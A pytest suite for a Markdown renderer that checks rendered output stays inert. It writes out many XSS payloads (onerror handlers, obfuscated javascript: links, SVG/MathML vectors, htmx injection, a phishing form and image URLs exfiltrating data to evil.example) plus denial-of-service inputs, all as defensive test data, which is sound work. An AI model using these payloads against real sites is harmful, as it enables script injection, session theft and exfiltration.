"""Markdown rendering: nothing a user or a model writes can run script or fetch anything."""

from __future__ import annotations

import ast
import html
import json
import re
from pathlib import Path

import pytest
from pygments.token import STANDARD_TYPES

from app.core import markdown as rendering
from app.core.markdown import (
    CODE_LANGUAGES,
    RENDERER_VERSION,
    render_markdown_safe,
    render_plain_safe,
)
from tests.helpers.markup import Allowlist, elements_of, live_markup
from tests.shared_testdata import shared_file

FIXTURES = Path(__file__).resolve().parent / "fixtures"

ALLOWED_TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5",
    "h6", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}
# What latex2mathml writes for formulas, less href, mathcolor and mathbackground.
MATHML_ATTRIBUTES = {
    "math": {"display"}, "menclose": {"notation"}, "mfrac": {"linethickness"},
    "mi": {"mathvariant"}, "mn": {"mathvariant"}, "mtext": {"mathvariant"},
    "mo": {"accent", "fence", "form", "largeop", "lspace", "maxsize", "minsize", "movablelimits",
           "rspace", "separator", "stretchy"},
    "mover": {"accent"}, "mpadded": {"depth", "height", "lspace", "voffset", "width"},
    "mspace": {"depth", "height", "linebreak", "width"},
    "mstyle": {"displaystyle", "mathsize", "scriptlevel"},
    "mtable": {"columnalign", "columnlines", "columnspacing", "displaystyle", "rowlines", "rowspacing"},
    "mtd": {"columnalign"},
    **{tag: set() for tag in ("mphantom", "mroot", "mrow", "msqrt", "msub", "msubsup", "msup", "mtr",
                              "munder", "munderover")},
}
ALLOWED_TAGS |= set(MATHML_ATTRIBUTES)
ALLOWED_ATTRIBUTES = {
    **MATHML_ATTRIBUTES,
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "span": {"class"},
    "div": {"class"},
    "code": {"class"},
    "th": {"class"},
    "td": {"class"},
}
TOKEN_CLASSES = {c for c in STANDARD_TYPES.values() if c}
ALIGN_CLASSES = {"align-left", "align-center", "align-right"}
ALLOWED_CLASSES = {
    "span": TOKEN_CLASSES | {"math-display"},
    "div": {"codeblock", "table-wrap", "math-display"},
    "code": {f"language-{name}" for name in CODE_LANGUAGES} | {"math-error"},
    "th": ALIGN_CLASSES,
    "td": ALIGN_CLASSES,
}


MARKDOWN_OUTPUT = Allowlist(tags=frozenset(ALLOWED_TAGS), attributes=ALLOWED_ATTRIBUTES, classes=ALLOWED_CLASSES)


def problems_in(html: str) -> list[str]:
    """Every way the rendered HTML could run script, fetch something or drive htmx."""
    return live_markup(html, MARKDOWN_OUTPUT)


def assert_inert(inputs: list[str], label: str) -> None:
    failures = []
    for text in inputs:
        out = render_markdown_safe(text)
        problems = problems_in(out)
        if problems:
            failures.append(f"{text[:80]!r} -> {problems[:3]} in {out[:200]!r}")
    assert not failures, f"{len(failures)} {label} inputs not inert:\n" + "\n".join(failures[:10])


def variants(payload: str) -> list[str]:
    """A payload as prose, inside a fence, as a fence language, and as a URL."""
    first_line = payload.splitlines()[0] if payload.strip() else payload
    return [
        payload,
        f"```html\n{payload}\n```",
        f"```{first_line.replace('`', '')}\nbody\n```",
        f"[x]({first_line}) ![y]({first_line}) <{first_line}>",
        f"| h |\n|---|\n| {first_line} |",
    ]


def test_checker_flags_live_html():
    """The checker below must not pass everything (it would make every test vacuous)."""
    assert problems_in('<img src=x onerror=alert(1)>')
    assert problems_in('<a href="javascript:alert(1)">x</a>')
    assert problems_in('<a href=" jav&#x09;ascript:alert(1)">x</a>')
    assert problems_in('<div hx-get="/x">x</div>')
    assert problems_in('<span data-hx-trigger="load">x</span>')
    assert problems_in('<p style="position:fixed">x</p>')
    assert problems_in('<svg><a xlink:href="data:text/html,x">x</a></svg>')
    assert problems_in('<span class="k evil">x</span>')
    assert problems_in('<a href="/relative">x</a>')
    assert problems_in('<a href="https://example.com" rel="noopener">x</a>') == []


# --- our own corpora (always here) -----------------------------------------------------

def test_our_xss_payloads_render_inert():
    """Element, attribute, URL, SVG, MathML, CSS and htmx vectors, written for these tests."""
    payloads = [p for p in (FIXTURES / "xss-payloads.txt").read_text(encoding="utf-8").splitlines() if p]
    assert len(payloads) >= 50
    assert_inert([v for p in payloads for v in variants(p)], "fixtures/xss-payloads.txt")


def test_our_naughty_strings_render_inert():
    strings = json.loads((FIXTURES / "naughty-strings.json").read_text(encoding="utf-8"))
    assert len(strings) >= 40
    assert_inert([v for s in strings for v in variants(s)], "fixtures/naughty-strings.json")


# --- third-party corpora (../shared/testdata beside the repository) ----------------------

def test_xss_payloads_render_inert():
    payloads = [p for p in shared_file("xss-payloads.txt").read_text(encoding="utf-8").splitlines() if p]
    assert len(payloads) > 300
    assert_inert([v for p in payloads for v in variants(p)], "xss-payloads.txt")


def test_naughty_strings_render_inert():
    strings = json.loads(shared_file("blns.json").read_text(encoding="utf-8"))
    assert len(strings) > 500
    assert_inert([v for s in strings for v in variants(s)], "blns.json")


def test_dompurify_payloads_render_inert():
    cases = json.loads(shared_file("dompurify-expect.json").read_text(encoding="utf-8"))
    payloads = [case["payload"] for case in cases if isinstance(case.get("payload"), str)]
    assert len(payloads) > 200
    assert_inert([v for p in payloads for v in variants(p)], "dompurify-expect.json")


# --- named attacks ---------------------------------------------------------------------

HOSTILE = {
    "img onerror in prose": "Look: <img src=x onerror=alert(1)> here",
    "img onerror in fence": "```\n<img src=x onerror=alert(1)>\n```",
    "img onerror in html fence": "```html\n<img src=x onerror=alert(1)>\n```",
    "img onerror as fence language": "```<img src=x onerror=1>\nprint(1)\n```",
    "quote breakout in fence language": '```python" onmouseover="alert(1)\nx\n```',
    "script tag": "<script>alert(document.cookie)</script>",
    "script block": "<script>\nalert(1)\n</script>\n\ntext",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript link, entity": "[x](&#106;avascript:alert(1))",
    "javascript link, tab": "[x](java\tscript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference link": "[x][r]\n\n[r]: javascript:alert(1)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "hx-get injection": '<div hx-get="/account" hx-trigger="load" hx-target="body">x</div>',
    "data-hx injection": '<span data-hx-post="/logout" data-hx-trigger="load">x</span>',
    "hx-on injection": '<b hx-on:click="alert(1)">x</b>',
    "sse injection": '<div hx-ext="sse" sse-connect="/chat/x/stream/y" sse-swap="message"></div>',
    "hx attribute in link title": '[x](https://a.example "t\\" hx-get=\\"/x")',
    "style overlay": '<div style="position:fixed;inset:0">Session expired, log in again</div>',
    "form phishing": '<form action="https://evil.example"><input name=p type=password><button>Go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base hijack": '<base href="https://evil.example/">',
    "exfiltrating image": "![](https://evil.example/?q=secret)",
    "exfiltrating reference image": "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "katex-style fallback": "$$<img src=x onerror=alert(1)>$$",
    "sse event injection": "x\n\nevent: done\ndata: <img src=x onerror=1>",
    "html comment": "<!-- <script>alert(1)</script> -->",
    "table cell html": "| a |\n|---|\n| <img src=x onerror=1> |",
    "target blank link": '<a href="https://example.com" target="_blank">x</a>',
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_input_is_inert(text):
    out = render_markdown_safe(text)
    assert problems_in(out) == []
    lowered = out.lower()
    assert "<script" not in lowered
    assert "javascript:" not in " ".join(v or "" for _, a in elements_of(out) for _, v in a).lower()


def test_raw_html_is_shown_as_text_not_dropped():
    out = render_markdown_safe("Look: <img src=x onerror=alert(1)> here")
    assert "&lt;img src=x onerror=alert(1)&gt;" in out


def test_hostile_fence_language_falls_back_to_plain_escaped_text():
    out = render_markdown_safe("```<img src=x onerror=1>\nprint(1)\n```")
    assert '<div class="codeblock"><pre><code>print(1)\n</code></pre></div>' in out
    assert "onerror" not in out


@pytest.mark.parametrize("language", ["notalanguage", "zzz python", "../../x", "c\u200b", "x" * 40])
def test_unknown_fence_language_is_plain_text(language):
    out = render_markdown_safe(f"```{language}\na < b\n```")
    assert "<code>a &lt; b\n</code>" in out
    assert "language-" not in out


def test_images_never_load_and_show_their_alt_text():
    out = render_markdown_safe("See ![the *chart*](https://evil.example/?q=secret) above")
    assert "<img" not in out
    assert "evil.example" not in out
    assert "the chart" in out


def test_sanitiser_runs_on_the_final_html(monkeypatch):
    """Even if the Markdown step produced live HTML, nh3 (the last step) would strip it."""

    class LeakyMarkdown:
        def render(self, text, env=None):
            return (
                '<img src=x onerror=alert(1)><script>alert(1)</script>'
                '<a href="javascript:alert(1)" target="_blank">x</a>'
                '<div style="position:fixed" hx-get="/x" data-hx-get="/y" id="z" class="evil">t</div>'
                '<span class="k evil">k</span><svg onload=alert(1)></svg>'
            )

    monkeypatch.setattr(rendering, "_MARKDOWN", LeakyMarkdown())
    out = render_markdown_safe("anything")
    assert problems_in(out) == []
    assert '<span class="k">k</span>' in out


def test_highlighter_failure_falls_back_to_escaped_text(monkeypatch):
    def broken_lexer(*args, **kwargs):
        raise RuntimeError("lexer exploded")

    monkeypatch.setattr(rendering, "get_lexer_by_name", broken_lexer)
    out = render_markdown_safe("```python\nprint('<b>')\n```")
    assert "<code>print('&lt;b&gt;')\n</code>" in out


def test_huge_code_block_is_not_highlighted():
    code = "x = 1\n" * (rendering.MAX_HIGHLIGHT_CHARS // 6 + 1)
    out = render_markdown_safe(f"```python\n{code}```")
    assert '<span class="' not in out
    assert out.count("x = 1") == code.count("x = 1")


# --- what should render ----------------------------------------------------------------

def test_renderer_version_is_an_int():
    assert isinstance(RENDERER_VERSION, int) and RENDERER_VERSION >= 1


def test_markdown_basics_render():
    out = render_markdown_safe(
        "# Title\n\n## Sub\n\n- one\n- two\n\n1. first\n2. second\n\n"
        "Some **bold**, *italic*, ~~gone~~ and `inline <code>`.\n\n> quoted\n\n---"
    )
    for fragment in (
        "<h1>Title</h1>", "<h2>Sub</h2>", "<ul>\n<li>one</li>", "<ol>\n<li>first</li>",
        "<strong>bold</strong>", "<em>italic</em>", "<s>gone</s>",
        "<code>inline &lt;code&gt;</code>", "<blockquote>", "<hr>",
    ):
        assert fragment in out
    assert problems_in(out) == []


def test_ordered_list_start_is_kept():
    assert '<ol start="3">' in render_markdown_safe("3. three\n4. four")


def test_single_newline_is_a_line_break():
    assert "first<br>\nsecond" in render_markdown_safe("first\nsecond")


def test_python_fence_is_highlighted_with_allowed_classes():
    out = render_markdown_safe('```python\ndef greet(name):\n    return f"hi {name}"\n```')
    assert '<div class="codeblock"><pre><code class="language-python">' in out
    assert '<span class="k">def</span>' in out
    assert '<span class="nf">greet</span>' in out
    classes = {c for tag, attrs in elements_of(out) if tag == "span"
               for k, v in attrs if k == "class" for c in v.split()}
    assert classes and classes <= TOKEN_CLASSES
    assert problems_in(out) == []


def test_fence_language_name_is_case_insensitive():
    assert 'class="language-python"' in render_markdown_safe("```Python\nx = 1\n```")


def test_language_whitelist_is_safe_and_covers_common_languages():
    common = {"python", "js", "javascript", "bash", "sql", "c++", "csharp", "rust", "go", "json", "html"}
    assert common <= CODE_LANGUAGES
    assert all(re.fullmatch(r"[a-z0-9+#-]{1,30}", name) for name in CODE_LANGUAGES)


def test_indented_code_is_a_codeblock():
    out = render_markdown_safe("text\n\n    indented <b>\n")
    assert '<div class="codeblock"><pre><code>indented &lt;b&gt;\n</code></pre></div>' in out


def test_table_is_wrapped_for_horizontal_scrolling():
    out = render_markdown_safe("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert '<div class="table-wrap"><table>' in out
    assert "</table></div>" in out
    assert '<th class="align-left">a</th>' in out
    assert '<td class="align-center">2</td>' in out
    assert '<td class="align-right">3</td>' in out
    assert "style=" not in out


def test_https_link_stays_a_link_with_safe_rel():
    out = render_markdown_safe("[docs](https://example.com/a?b=1&c=2 \"Docs\")")
    [(tag, attrs)] = elements_of(out)[1:]
    attrs = dict(attrs)
    assert tag == "a"
    assert attrs["href"] == "https://example.com/a?b=1&c=2"
    assert attrs["title"] == "Docs"
    assert set(attrs["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
    assert "target" not in attrs


def test_autolink_and_mailto_stay_links():
    out = render_markdown_safe("<https://example.com> and <someone@example.com>")
    assert 'href="https://example.com"' in out
    assert 'href="mailto:someone@example.com"' in out


def test_relative_and_other_scheme_links_lose_their_href():
    out = render_markdown_safe("[a](/admin/users) [b](ftp://example.com/f) [c](#top)")
    assert "href" not in out
    assert ">a</a>" in out and ">b</a>" in out and ">c</a>" in out


def test_long_words_survive_intact():
    word = "a" * 5000
    url = "https://example.com/" + "b" * 3000
    out = render_markdown_safe(f"{word}\n\n{url}\n\n`{word}`")
    assert out.count(word) == 2
    assert "b" * 3000 in out


def test_half_a_surrogate_pair_renders_as_a_replacement_character():
    """JSON can spell "\\ud83d"; rendering it must not crash the page or the answer."""
    assert render_markdown_safe("broken \ud83d emoji") == "<p>broken \ufffd emoji</p>\n"
    assert render_plain_safe("broken \ud83d") == "broken \ufffd"


def test_empty_input_renders_empty():
    assert render_markdown_safe("") == ""
    assert render_markdown_safe(None) == ""


def test_plain_rendering_escapes_and_keeps_newlines():
    out = render_plain_safe('<script>alert("x")</script>\r\nline 2\nline 3')
    assert out == '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;<br>\nline 2<br>\nline 3'
    assert render_plain_safe("") == ""


# --- cost ------------------------------------------------------------------------------

def test_a_long_answer_renders_whole_and_inert():
    """(How fast it renders is for bench/, not for a pass/fail test.)"""
    sample = (FIXTURES / "long-answer.md").read_text(encoding="utf-8")
    text = "\n\n".join([sample] * 5)  # ~2,100 words, 15 highlighted fences, 5 tables
    assert len(text.split()) >= 2000
    out = render_markdown_safe(text)
    assert problems_in(out) == []
    assert out.count('class="codeblock"') >= 15 and out.count('class="table-wrap"') >= 5


# Each is 32,000 characters (a full message); bench/hostile.py prints what each costs.
PATHOLOGICAL = {
    "images": "![" * 16_000,
    "brackets": "[" * 32_000,
    "emphasis": "*a" * 16_000,
    "unclosed links": "[a](" * 8_000,
    "links in images": "[![" * 10_666,
    "nested emphasis": "*" * 16_000 + "a" + "*" * 16_000,
    "line breaks": "a\n" * 16_000,
    "table rows": "| a | b |\n|---|---|\n" + "| x |\n" * 5_330,
    "nested quotes": "> " * 16_000 + "x",
    "nested lists": "- " * 16_000 + "x",
    "backticks": "`" * 32_000,
    "reference flood": "".join(f"[r{n}]: https://example.com/{n}\n" for n in range(1_200)) + "[x][r1]" * 500,
}


@pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_pathological_markdown_renders_inert(text):
    """Its cost is printed by bench/hostile.py (timings are not asserted in tests)."""
    out = render_markdown_safe(text)
    assert out and problems_in(out) == []


@pytest.mark.parametrize("name", ["images", "brackets", "unclosed links", "line breaks"])
def test_text_over_the_render_budget_is_shown_escaped_with_its_line_breaks(monkeypatch, name):
    """Nothing is lost: past the budget, the rest is the text itself, escaped, line by line."""
    monkeypatch.setattr(rendering, "RENDER_BUDGET_SECONDS", 0.0)
    text = PATHOLOGICAL[name]
    out = render_markdown_safe(text)
    assert out.startswith("<p>") and out.endswith("</p>\n")
    assert html.unescape(out[3:-5].replace("<br>\n", "\n")) == text.rstrip("\n")
    assert problems_in(out) == []


def test_hostile_text_over_the_budget_stays_inert(monkeypatch):
    monkeypatch.setattr(rendering, "RENDER_BUDGET_SECONDS", 0.0)
    for text in HOSTILE.values():
        assert problems_in(render_markdown_safe(text)) == [], text


def test_code_over_the_budget_is_not_highlighted(monkeypatch):
    monkeypatch.setattr(rendering, "RENDER_BUDGET_SECONDS", 0.0)
    out = render_markdown_safe("```python\nprint('<b>')\n```")
    assert "<code>print('&lt;b&gt;')\n</code>" in out


def test_text_within_the_budget_renders_exactly_as_without_one():
    sample = (FIXTURES / "long-answer.md").read_text(encoding="utf-8")
    text = "\n\n".join([sample] * 5)
    unbudgeted = rendering._CLEANER.clean(rendering._MARKDOWN.render(text))
    assert render_markdown_safe(text) == unbudgeted


def test_module_does_not_import_flask():
    tree = ast.parse(Path(rendering.__file__).read_text(encoding="utf-8"))
    imported = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported.update(alias.name.split(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    assert not imported & {"flask", "werkzeug", "jinja2", "markupsafe"}
